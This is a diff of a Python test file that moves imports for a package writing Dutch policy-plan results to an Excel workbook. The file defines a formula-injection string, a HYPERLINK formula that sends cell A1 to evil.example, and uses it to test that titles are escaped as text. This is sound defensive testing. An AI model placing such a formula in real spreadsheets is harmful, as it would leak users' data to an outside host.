@@ -1,4 +1,4 @@
-"""tabellen.xlsx (ivp.tables): read back and compared cell by cell with results.json, number formats,
+"""tabellen.xlsx (ivp.report.tables): read back and compared cell by cell with results.json, number formats,
 determinism, a cohort without plans, and formula injection through a plan title.
 
 Results come from the seven-plan input of test_analysis.py, through the same parts the notebooks write."""
@@ -12,10 +12,11 @@ import pytest
 from test_analysis import PLANS, SPEERPUNTEN, ccv_like_input, cleaned_from, plan, priority_rows
 from test_results import write_parts
 
-from ivp import job, tables
-from ivp.analysis import select_scope
-from ivp.report import is_indicatief
-from ivp.spreadsheet import restore_cell
+from ivp.analysis.measures import select_scope
+from ivp.report import tables
+from ivp.report.text import is_indicatief
+from ivp.running import job
+from ivp.running.spreadsheet import restore_cell
 
 HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"klik")'
 PROVENANCE = {"git": {"commit": "abc123", "dirty": False}, "versies": {"ivp": "0.1.0"},
@@ -185,7 +186,7 @@ def test_every_sheet_equals_results_json(national, tmp_path):
         for kind in ("cohort", "provincie", "veiligheidsregio") for group, v in rep[kind].items()]
 
 
-# the figure whose small-number flag each sheet's indicatief column shows (ivp.report.is_indicatief)
+# the figure whose small-number flag each sheet's indicatief column shows (ivp.report.text.is_indicatief)
 FLAGGED = {"steekproef": "sample", "themas": "themes", "categorieen": "categories", "gevoeligheid": "categories",
            "niveau": "niveau", "gezamenlijk_omvang": "joint_plans.sizes", "gezamenlijk_regios": "joint_plans",
            "participatievormen": "participation.forms", "landelijk_per_niveau": "national_priorities",
@@ -297,7 +298,7 @@ def test_a_formula_in_a_plan_title_is_stored_as_text_with_a_quote(national, tmp_
 
 
 def test_job_writes_its_tables_from_its_folder(national, tmp_path):
-    from ivp.atomic import write_json
+    from ivp.running.atomic import write_json
 
     write_json(tmp_path / job.RESULTS_FILE, national)
     write_json(tmp_path / job.PROVENANCE_FILE, PROVENANCE)
